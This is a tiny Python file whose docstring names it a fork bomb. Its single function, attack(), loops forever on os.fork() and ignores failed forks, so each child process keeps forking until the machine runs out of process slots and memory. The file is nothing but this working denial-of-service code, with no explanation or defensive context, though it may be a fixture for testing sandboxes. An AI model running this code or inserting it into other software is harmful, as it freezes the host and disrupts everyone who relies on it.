"""A fork bomb: every process forks forever, and survives a failed fork."""


def attack(*args):
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
